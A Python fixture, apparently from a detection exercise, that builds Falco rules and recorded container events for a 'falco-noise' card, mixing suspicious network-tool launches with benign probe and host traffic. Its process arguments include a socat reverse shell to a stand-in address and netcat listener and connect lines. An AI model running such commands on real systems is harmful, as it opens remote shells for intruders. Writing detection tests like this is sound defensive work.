"""The rules and the recorded events of card `falco-noise`."""

from __future__ import annotations

from tools.material.recording import (
    HOST,
    RULES,
    Place,
    Process,
    alerts,
    connected,
    everyday,
    opened,
    recording,
    start,
)

_WEB = Place("shop", "web-7c8d9f6b4-q8w2z", "nginx", "docker.io/library/nginx", "1.27.3")
_PAY = Place("payments", "gateway-6c5f9d7b8-h4v2n", "gateway", "registry.example.com/pay/gateway", "3.2.0")
_PROBE = Place("monitoring", "probe-x7k2p", "probe", "registry.example.com/mon/probe", "1.1.0")
_AGENT = Place("monitoring", "agent-hj4kd", "agent", "registry.example.com/mon/agent", "2.0.4")
_FAKE = Place("shop", "probe-cart-5d8c7", "probe", "docker.io/library/busybox", "1.36.1")


def files() -> dict[str, str]:
    """The material by name."""
    nc, ncat = Process("/usr/bin/nc", "-lvp 4444", parent="bash"), Process("/usr/bin/ncat", "-z web 80")
    socat = Process("/usr/bin/socat", "TCP:203.0.113.9:443 EXEC:/bin/sh", "app", parent="python3")
    check = Process("/usr/bin/ncat", "-z gateway.payments 8443", parent="probe")
    host = Process("/usr/bin/socat", "UNIX-LISTEN:/run/relay.sock TCP:127.0.0.1:10248", parent="systemd")
    events = everyday("network tools", 440, (_WEB, _PAY, _PROBE, _AGENT, _FAKE, HOST))
    events += [
        # what the rule is for
        start(702, _WEB, nc),
        start(1404, _PAY, socat),
        start(1911, _FAKE, ncat),
        start(2507, _AGENT, Process("/usr/bin/nc", "203.0.113.9 443", "app", parent="sh")),
        # what it shouldn't report: other events, the host, the probes of the monitoring
        opened(703, _WEB, nc, "/etc/services"),
        connected(1405, _PAY, socat, "10.244.2.9", "203.0.113.9", 443),
        opened(1912, _FAKE, ncat, "/etc/resolv.conf"),
        *(start(at, _PROBE, check) for at in (120, 720, 1320, 1920, 2520, 3120)),
        *(connected(at + 1, _PROBE, check, "10.244.3.4", "10.96.14.20", 8443) for at in (120, 720, 1320)),
        start(60, HOST, host),
        opened(61, HOST, host, "/etc/nsswitch.conf"),
        connected(62, HOST, host, "127.0.0.1", "127.0.0.1", 10248),
    ]
    events += alerts(_AGENT, 3300)
    return {"falco_rules.yaml": RULES, "events.jsonl": recording("network tools", events)}
